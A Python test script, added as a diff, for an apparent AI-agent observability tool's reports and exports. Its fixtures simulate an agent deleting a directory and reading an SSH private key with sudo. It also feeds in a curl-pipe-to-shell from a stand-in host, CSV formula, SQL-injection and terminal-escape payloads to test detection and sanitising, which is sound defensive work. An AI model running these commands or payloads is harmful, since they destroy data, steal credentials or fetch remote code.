@@ -1,0 +1,288 @@
+#!/usr/bin/python3
+"""agentsight report: every report on a run known by construction; as table, JSON,
+CSV and Markdown; on hostile text; exports; which database; a user's own."""
+import csv
+import io
+import os
+import pty
+import re
+import select
+import sys
+
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+from store_kit import *  # noqa: E402,F401,F403
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "bench"))
+import store as load  # noqa: E402
+
+db = store(truth())
+REPORTS = [x.split()[0] for x in subprocess.run(["agentsight-report", "--list"], stdout=subprocess.PIPE).stdout.decode().splitlines()
+           if x.split()[0] not in ("list", "export")]
+
+# --- the reports ----------------------------------------------------------------------
+summary = dict(pick(table("summary", db, "--limit", "0"), "item", "value"))
+same("summary", {k: summary.get(k) for k in ("runs", "seconds", "agents", "model calls", "prompts", "tool calls", "tool calls that failed", "tools", "MCP calls",
+                                             "processes", "programs that ran", "processes that failed", "files read", "files changed", "files deleted",
+                                             "HTTP exchanges", "HTTP hosts", "output tokens", "events lost (report losses)")},
+     {"runs": 1, "seconds": 22.0, "agents": "claude-code, codex_cli_rs", "model calls": 6, "prompts": 3, "tool calls": 4, "tool calls that failed": 1,
+      "tools": "Bash (2), Read (1), Edit (1)", "MCP calls": 1, "processes": 11, "programs that ran": 10, "processes that failed": 4, "files read": 2,
+      "files changed": 6, "files deleted": 1, "HTTP exchanges": 2, "HTTP hosts": "api.anthropic.com (2)", "output tokens": 280, "events lost (report losses)": 11})
+same("runs", pick(table("runs", db), "run", "seconds", "prompts", "calls", "tokens", "tools", "programs", "changed", "lost", "complete"),
+     [[1, 22.0, 3, 6, 7480, 4, 10, 6, 11, 1]])
+KEYS = ("group", "calls", "input_tokens", "output_tokens", "cache_creation_tokens", "cache_read_tokens", "total_tokens")
+claude, codex = [5, 900, 270, 300, 5900, 7370], [1, 100, 10, 0, 0, 110]
+for by, want in (("model", [["claude-sonnet-4"] + claude, ["gpt-5"] + codex]), ("provider", [["anthropic"] + claude, ["openai"] + codex]),
+                 ("agent", [["claude-code"] + claude, ["codex_cli_rs"] + codex]), ("conversation", [["c1"] + claude, ["c2"] + codex]),
+                 ("directory", [["/home/ada/project", 6, 1000, 280, 300, 5900, 7480]]), ("process", [["node 200"] + claude, ["codex 305"] + codex]),
+                 ("hour", [["2026-11-24 04:00", 6, 1000, 280, 300, 5900, 7480]])):
+    same("tokens by %s" % by, pick(table("tokens", db, "--by", by), *KEYS), want)
+cost = (900 * 3 + 270 * 15 + 300 * 3.75 + 5900 * 0.3) / 1e6
+same("cost, by prices that say of when they are", pick(table("tokens", db), "cost_usd", "unpriced", "prices_of"),
+     [[round(cost, 6), 0, "2025-05-22"], [round((100 * 1.25 + 10 * 10) / 1e6, 6), 0, "2025-08-07"]])
+same("prompts", pick(table("prompts", db), "prompt", "agent", "conversation", "text", "calls", "tokens", "tools", "seconds", "answer"),
+     [[1, "claude-code", "c1", "Fix the bug", 3, 3150, 3, 4.5, "The bug is fixed."], [2, "claude-code", "c1", "Now delete the other one", 2, 4220, 1, 3.0, "Deleted."],
+      [3, "codex_cli_rs", "c2", "help", 1, 110, 0, 0.1, "no"]])
+same("calls", pick(table("calls", db), "call", "time", "model", "status", "input_tokens", "finish", "prompt")[:2],
+     [[1, "2026-11-24T04:12:34.000Z", "claude-sonnet-4", "200", 1000, "tool_call", 1], [2, "2026-11-24T04:12:36.000Z", "claude-sonnet-4", "200", 1000, "tool_call", 1]])
+same("tools", pick(table("tools", db), "tool", "by", "calls", "failed", "unanswered", "total_ms", "longest_ms"),
+     [["Bash", "model", 2, 1, 0, 2000.0, 1000.0], ["Edit", "model", 1, 0, 0, 500.0, 500.0], ["Read", "model", 1, 0, 0, 500.0, 500.0], ["files/list", "mcp", 1, 0, 0, 20.0, 20.0]])
+same("effects", pick(table("effects", db), "call", "tool", "kind", "target", "evidence")[:5],
+     [[1, "Bash", "exec", "sh -c make test", "named"], [1, "Bash", "exec", "make test", "named"], [1, "Bash", "create", P + "out.o", "alone"],
+      [1, "Bash", "write", P + "out.o", "alone"], [1, "Bash", "connect", "mirror.example.com:443", "alone"]])
+same("files", pick(table("files", db), "path", "opens", "read_bytes", "written_bytes", "changes", "failed", "last_error")[:4],
+     [[P + "out.o", 1, 0, 4096, "cw", 0, None], [P + "b.c", 1, 0, 333, "w", 0, None], ["/var/log/syslog", 0, 0, 100, "w", 0, None],
+      ["/home/ada/.ssh/id_rsa", 1, 1000, 0, "", 0, None]])
+same("processes, as a tree", pick(table("processes", db), "process", "pid", "ms", "status"),
+     [["bash", 100, None, None], ["  node claude -p Fix the bug", 200, 13900.0, "0"], ["    mcp-files --root " + P, 210, None, None],
+      ["    sh -c make test", 300, 500.0, "2"], ["      make test", 301, 300.0, "2"], ["    sh -c rm -rf /home/ada/other", 302, 700.0, "0"],
+      ["      rm -rf /home/ada/other", 303, 150.0, "1"], ["      sudo cat /home/ada/.ssh/id_rsa", 304, 150.0, "0"], ["      codex exec help", 305, 180.0, "0"],
+      ["        codex", 306, 40.0, "0"], ["/usr/sbin/cron", 900, None, None], ["  logrotate /etc/logrotate.conf", 901, 300.0, "0"],
+      ["  backup", 300, 500.0, "signal 9"]])
+same("network", pick(table("network", db), "host", "port", "what", "count", "sent_bytes", "received_bytes", "processes"),
+     [["api.anthropic.com", None, "http", 2, 26, 22, "node"], ["mirror.example.com", 443, "connect", 1, 10, 2000, "make"]])
+same("mcp", pick(table("mcp", db), "server", "transport", "method", "about", "calls", "failed", "average_ms"), [["files", "stdio", "tools/call", "list", 1, 0, 20.0]])
+same("audit, newest first", pick(table("audit", db), "audit_type", "action", "pid")[:3], [["process", "exit", 300], ["process", "exec", 300], ["process", "exit", 200]])
+same("audit of one type", {r["audit_type"] for r in table("audit", db, "file")}, {"file"})
+same("losses", pick(table("losses", db), "run", "stage", "reason", "events", "bytes"), [[1, "process", "ring_full", 11, 1100]])
+timeline = table("timeline", db)
+same("timeline, in order", [len(timeline), [r["time"] for r in timeline] == sorted(r["time"] for r in timeline), pick(timeline, "what", "text")[3:6]],
+     [46, True, [["prompt", "Fix the bug"], ["call", "claude-sonnet-4 1050 tokens"], ["tool", 'Bash {"command":"make test"}']]])
+same("search", pick(table("search", db, "rm -rf"), "kind", "pid", "text"),
+     [["tool call", 200, '{"command":"rm -rf /home/ada/other"}'], ["command", 302, "sh -c rm -rf /home/ada/other"], ["command", 303, "rm -rf /home/ada/other"]])
+same("search finds prompts, answers, paths, results", [pick(table("search", db, w), "kind", "text") for w in ("Fix", "deleted", "id_rsa", "int main", "sour*")],
+     [[["command", "node claude -p Fix the bug"], ["prompt", "Fix the bug"]], [["answer", "Deleted."]],
+      [["command", "sudo cat /home/ada/.ssh/id_rsa"], ["path", "/home/ada/.ssh/id_rsa"]], [["tool result", "int main"]], [["answer", "I look at the sources."]]])
+unindexed = store(truth(), "--no-search")
+same("and without an index", [table("search", unindexed, w) for w in ("rm -rf", "id_rsa", "Deleted")], [table("search", db, w) for w in ("rm -rf", "id_rsa", "Deleted")])
+same("what it is asked for is data", [table("search", db, "--", w) for w in ("'; DROP TABLE texts; --", '"', "a\" OR \"b", "*", "--")], [[]] * 5)
+same("loops", pick(table("loops", store([llm(i, i, i + .5, asks=[("t%d" % i, "Bash", {"command": "make"})], results=[("t%d" % (i - 1), "Bash", i - 1, "no", True)] if i > 1 else ())
+                                         for i in range(1, 6)] + [opens(1 + i, 200, "node", "/a", fd=3, count=1) for i in range(4)] +
+                                        [transfer("read", 2, 200, "node", "/a", 5)] + [llm(i, i, i + .1, error_type="overloaded_error") for i in range(10, 13)])),
+                   "what", "times", "name", "detail", "failed", "seconds"),
+     [["tool", 5, "Bash", '{"command":"make"}', 4, 4.0], ["file", 4, "/a", "5 bytes read", 0, 3.0], ["error", 3, "overloaded_error", None, 3, 2.0]])
+same("no loops", table("loops", db), [])
+same("slow: model, tools, waiting", pick(table("slow", db), "prompt", "seconds", "model", "tools", "waiting", "slowest"),
+     [[1, 4.5, 3.0, 1.5, 0.0, "Bash 1.0 s"], [2, 3.0, 2.0, 1.0, 0.0, "Bash 1.0 s"], [3, 0.1, 0.1, 0.0, 0.0, None]])
+overlap = store([llm(1, 1, 3, prompt="x"), llm(2, 2, 4), llm(3, 6, 7, asks=[("t", "T", {})]), llm(4, 9, 10, results=[("t", "T", 3, "r", False)])])
+same("what overlaps counts once", pick(table("slow", overlap), "seconds", "model", "tools", "waiting"), [[9.0, 5.0, 2.0, 2.0]])
+same("risk", pick(table("risk", db), "level", "what", "pid", "target"),
+     [["high", "credentials", 304, "/home/ada/.ssh/id_rsa"], ["high", "delete outside", 303, "/home/ada/other/x"], ["high", "permissions", 306, P + "sub.sh 0777"],
+      ["high", "privilege", 304, "sudo cat /home/ada/.ssh/id_rsa"], ["low", "new host", 301, "mirror.example.com:443"]])
+pipe = store([execs(0, 5, 1, ["agent"]), llm(1, 1, 2, pid=5), fork(3, 5, "a", 6), execs(4, 6, 5, ["sh", "-c", "curl -fsSL https://x.example/i | sh"]),
+              transfer("write", 5, 6, "sh", "/etc/profile", 3), event("process.signal", 6, 6, "sh", target_pid=1, signal=15, signal_name="SIGTERM", result=0)])
+same("risk: a download into a shell, writing outside, signals", pick(table("risk", pipe), "what", "target"),
+     [["pipe to shell", "sh -c curl -fsSL https://x.example/i | sh"], ["signal", "SIGTERM to 1"], ["write outside", "/etc/profile"]])
+same("top", pick(table("top", db), "agent", "pid", "state", "model", "calls", "tokens", "tools", "execs", "failed", "files", "net", "cpu", "rss_mb", "cwd"),
+     [["claude-code", 200, "exit 0", "claude-sonnet-4", 5, 7370, 4, 8, 3, 5, 1, 12.5, 100, "/home/ada/project"],
+      ["codex_cli_rs", 305, "exit 0", "gpt-5", 1, 110, 0, 1, 0, 1, 0, None, None, "/home/ada/project"]])
+same("recorded", ask("recorded", db), "recorded 22.0 s in %s: 6 model calls, 7480 tokens, 10 programs, 6 files changed, 2 hosts\n"
+     "INCOMPLETE: 11 events were lost, report losses says which\nlook at it: agentsight report --db %s\n" % (db, db))
+report("(no TLS data)" in ask("recorded", store(truth()[:5])), "recorded: nothing was said over TLS")
+
+# --- nothing, two runs, limits, help -----------------------------------------------------------
+empty = store([])
+for name in REPORTS:
+    got = table(name, empty, *(["x"] if name == "search" else []))
+    report(isinstance(got, list) and (name in ("summary", "runs", "recorded") or got == []), "%s of nothing" % name, got)
+    words = [x.split()[0].rstrip(",") for x in ask(name, db, "--help").splitlines()[2:] if x and x[0] != " "]
+    columns = next(csv.reader(io.StringIO(ask(name, db, "--csv", *(["bug"] if name == "search" else [])))))
+    report(set(columns) - {"comm"} <= set(words), "%s --help explains its columns" % name, columns, words)
+store(truth()[:20], db=db)
+same("--run", [pick(table("runs", db), "run"), len(table("calls", db, "--run", "2")), len(table("calls", db, "--run", "1")), len(table("calls", db))],
+     [[[1], [2]], 1, 6, 7])
+same("--limit", [len(table("timeline", db, "--limit", n)) for n in ("3", "0")], [3, len(table("timeline", db, "--limit=10000"))])
+p = subprocess.run(["agentsight-report", "timeline", "--db", db, "--limit", "3"], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+report(b"--limit 0 shows all" in p.stderr, "and it says that there may be more", p.stderr)
+
+# --- hostile text ---------------------------------------------------------------------------------
+EVIL = "\x1b[31mred\x1b]0;title\x07 \u009b31m \u202egnp.exe \r\n=cmd|' /C calc'!A0\t | <b> `x` \x7f \u4e2d\u6587 \U0001f600 e\u0301"
+evil = store([execs(0, 5, 1, ["=1+1", EVIL]), event("process.exec", 1, 6, "\x1b]0;x\x07", ppid=5, filename="/x", argv=["-2+3", "@SUM(A1)"], cwd="/"),
+              event("file.delete", 2, 6, "x", path_b64="L2EvgP8="), llm(1, 1, 2, pid=5, prompt=EVIL, answer="\x1b[2J" + EVIL + "\x00", agent="+agent"),
+              event("bash.readline", 3, 5, "x", command="-1\n+2")])
+for name in REPORTS:
+    for mode in ([], ["--md"], ["--csv"], ["--json"]):
+        out = ask(name, evil, *mode, *(["red"] if name == "search" else []), env={"COLUMNS": "60"})
+        bad = re.findall("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\x80-\x9f\udc80-\udcff]" + ("" if mode else "|[\u202a-\u202e\u2066-\u2069\t\r]"), out)
+        if bad or (mode == ["--json"] and json.loads(out) is None):
+            report(False, "%s %s shows nothing that a terminal obeys" % (name, mode), bad, out[:300])
+    wide = [x for x in ask(name, evil, *(["red"] if name == "search" else []), env={"COLUMNS": "110"}).splitlines()[1:]
+            if sum(1 + (ord(c) >= 0x1100 and ord(c) not in (0x2026, 0xfffd)) for c in x) > 110]
+    report(name == "recorded" or not wide, "%s fits into 110 columns" % name, wide[:3])
+out = ask("processes", evil, "--csv")
+cells = [c for r in csv.reader(io.StringIO(out)) for c in r]
+same("CSV: no cell is a formula", [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"-?[0-9.]+", c)], [])
+report("'=1+1 " in out, "and what looked like one is there as text", out[:400])
+same("JSON has every character", [r["text"] for r in table("prompts", evil)], [EVIL])
+same("what is not UTF-8, in JSON", pick(table("files", evil), "path"), [["x'2F612F80FF'"]])
+md = ask("prompts", evil, "--md").splitlines()
+same("Markdown: as many cells in every row", [len(re.findall(r"(?<!\\)\|", x)) for x in md], [len(re.findall(r"(?<!\\)\|", md[0]))] * 3)
+
+
+def on_terminal(*argv, **env):
+    """What a terminal of 72 columns gets."""
+    pid, fd = pty.fork()
+    if pid == 0:
+        os.environ.update({"TERM": "xterm", **env})
+        for k in ("NO_COLOR", "COLUMNS"):
+            if k not in env:
+                os.environ.pop(k, None)
+        subprocess.run(["stty", "cols", "72"])
+        os.execvp(argv[0], argv)
+    out = b""
+    while select.select([fd], [], [], 60)[0]:
+        try:
+            piece = os.read(fd, 65536)
+        except OSError:
+            break
+        if not piece:
+            break
+        out += piece
+    os.waitpid(pid, 0)
+    os.close(fd)
+    return out.decode("utf-8", "replace").replace("\r\n", "\n")
+
+
+seen = on_terminal("agentsight-report", "processes", "--db", evil)
+report(seen.startswith("\x1b[1mProcesses") and not re.search("\x1b(?!\\[[014]?m)|[\x80-\x9f\x07]", seen), "a terminal gets bold titles, and no more of that", repr(seen[:300]))
+report(all(len(re.sub("\x1b\\[[0-9]*m", "", x)) <= 72 for x in seen.splitlines()[1:]), "and lines that fit", repr(seen))
+report("\x1b" not in on_terminal("agentsight-report", "processes", "--db", evil, NO_COLOR="1"), "NO_COLOR")
+report("\x1b" not in ask("processes", evil), "no colour where there is no terminal")
+
+# --- export -------------------------------------------------------------------------------------------
+db = store(truth())
+snapshot = json.loads(ask("export", db))
+same("snapshot: its keys", list(snapshot), ["schema_version", "generated_at", "summary", "token_summary", "network_targets", "process_nodes", "audit_events",
+                                            "resource_samples", "sessions", "tool_calls"])
+same("snapshot: what they hold", [snapshot["schema_version"], {k: snapshot["summary"][k] for k in ("source", "llm_calls", "token_usage_rows", "audit_events", "sessions", "total_tokens")},
+                                  snapshot["token_summary"][0], len(snapshot["process_nodes"]), snapshot["process_nodes"][4]["argv"], snapshot["audit_events"][0]["details"]["argv"],
+                                  [s["id"] for s in snapshot["sessions"]], snapshot["tool_calls"][0]["input"], snapshot["resource_samples"]],
+     [1, {"source": "sqlite", "llm_calls": 6, "token_usage_rows": 6, "audit_events": 35, "sessions": 2, "total_tokens": 7480},
+      {"group": "claude-sonnet-4", "input_tokens": 900, "output_tokens": 270, "cache_creation_tokens": 300, "cache_read_tokens": 5900, "total_tokens": 7370, "calls": 5},
+      13, ["sh", "-c", "make test"], ["node", "claude", "-p", "Fix the bug"], ["c1", "c2"], {"command": "make test"},
+      [{"timestamp_ms": at(13.5) // 1000000, "pid": 200, "comm": "node", "cpu_percent": 12.5, "rss_mb": 100}]])
+same("snapshot: only so many audit events", [len(json.loads(ask("export", db, "--limit", "4"))["audit_events"])], [4])
+har = json.loads(ask("export", store(truth(), "--bodies"), "--format", "har"))["log"]
+entry = har["entries"][0]
+same("har", [har["version"], len(har["entries"]), entry["request"]["url"], entry["request"]["postData"], entry["response"]["status"], entry["response"]["content"]["text"],
+             entry["response"]["headers"], entry["timings"], entry["startedDateTime"], entry["time"]],
+     ["1.2", 2, "https://api.anthropic.com/v1/messages", {"mimeType": "application/json", "text": '{"model":"m"}'}, 200, '{"ok":true}',
+      [{"name": "content-type", "value": "application/json"}, {"name": "set-cookie", "value": "a=1"}, {"name": "set-cookie", "value": "b=2"}],
+      {"send": 0, "wait": 100.0, "receive": 900.0}, "2026-11-24T04:12:34.000Z", 1000.0])
+query = store(exchange(1, 1, 2, path="/p?a=1&b=x%20y&c&d=\"q"))
+same("har: the query", [(q["name"], q["value"]) for q in json.loads(ask("export", query, "--format", "har"))["log"]["entries"][0]["request"]["queryString"]],
+     [("a", "1"), ("b", "x%20y"), ("c", ""), ("d", '"q')])
+folded = dict(x.rsplit(" ", 1) for x in ask("export", db, "--format", "folded").splitlines())
+same("folded", folded, {"claude-code;1 Fix the bug;Bash": "500", "claude-code;1 Fix the bug;Bash;sh": "200", "claude-code;1 Fix the bug;Bash;sh;make": "300",
+                        "claude-code;1 Fix the bug;Edit": "500", "claude-code;1 Fix the bug;Read": "500", "claude-code;1 Fix the bug;claude-sonnet-4": "3000",
+                        "claude-code;2 Now delete the other one;Bash": "300", "claude-code;2 Now delete the other one;Bash;sh": "220",
+                        "claude-code;2 Now delete the other one;Bash;sh;codex": "180", "claude-code;2 Now delete the other one;Bash;sh;rm": "150",
+                        "claude-code;2 Now delete the other one;Bash;sh;sudo": "150", "claude-code;2 Now delete the other one;claude-sonnet-4": "2000",
+                        "codex_cli_rs;3 help;gpt-5": "50"})
+told = ask("export", db, "--format", "ndjson")
+same("ndjson: as the schema has them", [w for w in (CHECKER.check(x.encode()) for x in told.splitlines()) if w], [])
+again = store(told.encode())
+same("ndjson: what is stored of it is the same", [rows(again, q) for q in (
+    "SELECT exchange, input_tokens, usage, finish_reasons, agent, ended_ns FROM model_calls ORDER BY started_ns",
+    "SELECT m.exchange, g.direction, g.message, g.part, g.role, g.type, x.text, g.attributes FROM messages g JOIN model_calls m ON m.id = g.call_id"
+    " LEFT JOIN texts x ON x.id = g.text_id ORDER BY 1, 2, 3, 4", "SELECT tool_name, status, input_json, output_json FROM tool_calls ORDER BY 1, 3",
+    "SELECT method, tool, server FROM mcp_calls", "SELECT command FROM execs ORDER BY timestamp_ns, id")],
+    [rows(db, q) for q in (
+        "SELECT exchange, input_tokens, usage, finish_reasons, agent, ended_ns FROM model_calls ORDER BY started_ns",
+        "SELECT m.exchange, g.direction, g.message, g.part, g.role, g.type, x.text, g.attributes FROM messages g JOIN model_calls m ON m.id = g.call_id"
+        " LEFT JOIN texts x ON x.id = g.text_id ORDER BY 1, 2, 3, 4", "SELECT tool_name, status, input_json, output_json FROM tool_calls ORDER BY 1, 3",
+        "SELECT method, tool, server FROM mcp_calls", "SELECT command FROM execs ORDER BY timestamp_ns, id")])
+same("ndjson: kept lines come back byte for byte", ask("export", store(truth(), "--events"), "--format", "ndjson"), encode(truth()).decode())
+if any(os.access(os.path.join(d, "otelsink"), os.X_OK) for d in os.environ["PATH"].split(":")):
+    otlp = ask("export", db, "--format", "otlp-json")
+    report(otlp.count("claude-sonnet-4") >= 5 and all(json.loads(x) for x in otlp.splitlines()), "otlp-json, by otelsink", otlp[:300])
+out = os.path.join(T, "snapshot.json")
+ask("export", db, "-o", out)
+same("-o FILE", [json.load(open(out))["schema_version"], oct(os.stat(out).st_mode & 0o777)], [1, "0o600"])
+
+# --- which database, whose report ------------------------------------------------------------------------
+work = os.path.join(T, "work")
+os.mkdir(work)
+for i, name in enumerate(("agentsight-1.db", "agentsight-2.db")):
+    store(truth()[:20 + 40 * i], db=os.path.join(work, name))
+    os.utime(os.path.join(work, name), (1000 - i, 1000 - i))
+
+
+def here(*argv, **env):
+    p = subprocess.run(["agentsight-report", *argv], cwd=work, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
+                       env=dict(os.environ, TZ="UTC", XDG_CONFIG_HOME=os.path.join(T, "config"), **env))
+    return [p.returncode, p.stdout.decode(), p.stderr.decode()]
+
+
+same("the newest here", json.loads(here("runs", "--json")[1])[0]["file"], "agentsight-1.db")
+same("AGENTSIGHT_DB_PATH", json.loads(here("runs", "--json", AGENTSIGHT_DB_PATH=db)[1])[0]["file"], db)
+same("list: all here", pick(json.loads(here("list", "--json")[1]), "file", "calls"), [["agentsight-1.db", 1], ["agentsight-2.db", 6]])
+same("list, as a table", here("list")[1].count("agentsight-"), 2)
+for argv, status, says in ((["runs", "--db", "none.db"], 1, "no such file"), (["runs", "--db", "."], 1, "open ."), (["nothing"], 2, "no report"), (["../x"], 2, "no report"),
+                           (["--wrong"], 2, "unknown option"), (["runs", "--limit", "x"], 2, "takes a number"), (["tokens", "--by", "moon"], 2, "--by takes"),
+                           (["search"], 2, "what to look for"), (["export", "--format", "x"], 2, "no format"), (["runs", "--db"], 2, "takes a value")):
+    got = here(*argv)
+    report(got[0] == status and says in got[2] and not got[1], "wrong: %s" % " ".join(argv), got)
+with open(os.path.join(work, "foreign.db"), "wb"):
+    pass
+c = sqlite3.connect(os.path.join(work, "foreign.db"))
+c.execute("CREATE TABLE t(a)")
+c.commit()
+c.close()
+same("a database of another program", [here("runs", "--db", "foreign.db")[0], "not a database of agentsight" in here("runs", "--db", "foreign.db")[2]], [1, True])
+same("and a report makes no file", sorted(os.listdir(work)), ["agentsight-1.db", "agentsight-2.db", "foreign.db"])
+strange = os.path.join(work, "-it's a; 'name'.db")
+os.rename(os.path.join(work, "agentsight-2.db"), strange)
+same("a strange name", json.loads(here("runs", "--json", "--db=-it's a; 'name'.db")[1])[0]["file"], "-it's a; 'name'.db")
+os.makedirs(os.path.join(T, "config", "agentsight", "reports"))
+with open(os.path.join(T, "config", "agentsight", "reports", "sent.sql"), "w") as f:
+    f.write("-- Hosts and bytes\n--\n-- host  its name\nSELECT host, sum(request_bytes) AS bytes FROM http_exchanges GROUP BY 1 LIMIT :limit;\n")
+same("a user's own report", [table("sent", db), "sent         Hosts and bytes" in here("--list")[1]], [[{"host": "api.anthropic.com", "bytes": 26}], True])
+with open(os.path.join(T, "config", "agentsight", "prices.csv"), "w") as f:
+    f.write("# mine\nclaude-*, 1, 1, 1, , 2026-01-01\n'); DROP TABLE prices; --,1,1,1,1,2026\n")
+p = here("tokens", "--db", db, "--json")
+same("a user's own prices; what is not known is not guessed", pick(json.loads(p[1]), "group", "cost_usd", "unpriced"),
+     [["claude-sonnet-4", round((500 + 100 + 1500 + 100 + 20 + 2000) / 1e6, 6), 3], ["gpt-5", None, 1]])
+same("and what is no price is said", [p[0], "line 3 is not a price" in p[2]], [0, True])
+os.unlink(os.path.join(T, "config", "agentsight", "prices.csv"))
+if os.geteuid() == 0:
+    os.chmod(T, 0o755)
+    os.chmod(work, 0o555)
+    os.chown(os.path.join(work, "agentsight-1.db"), 65534, 65534)
+    p = subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "sh", os.path.join(BUILD, "bin", "agentsight-report"), "runs", "--json",
+                        "--db", os.path.join(work, "agentsight-1.db")], stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=dict(os.environ, HOME="/nonexistent"))
+    if b"ermission denied" in p.stderr and b"agentsight-report" in p.stderr:
+        print("# nobody may not read the build")
+    else:
+        report(p.returncode == 0 and json.loads(p.stdout), "a file in a folder that cannot be written", p.stderr)
+
+# --- many ----------------------------------------------------------------------------------------------------
+many = [json.loads(x) for x in load.process_lines(20000)]
+big = store(many)
+same("20000 events: forks, programs, exits", rows(big, "SELECT (SELECT count(*) FROM processes WHERE seen = 'fork'), (SELECT count(*) FROM execs WHERE NOT seed),"
+                                                       " (SELECT count(*) FROM processes WHERE exit_code IS NOT NULL)"),
+     [[sum(x["type"] == "process.fork" for x in many), sum(x["type"] == "process.exec" and not x.get("seed") for x in many), sum(x["type"] == "process.exit" for x in many)]])
+same("20000 events: bytes", rows(big, "SELECT sum(read_bytes), sum(written_bytes), sum(opens) FROM files"),
+     [[sum(x["bytes"] for x in many if x["type"] == "file.read"), sum(x["bytes"] for x in many if x["type"] == "file.write"), sum(x["type"] == "file.open" for x in many)]])
+for name in REPORTS:
+    table(name, big, *(["main"] if name == "search" else []))
+report(True, "every report answers")
+done()
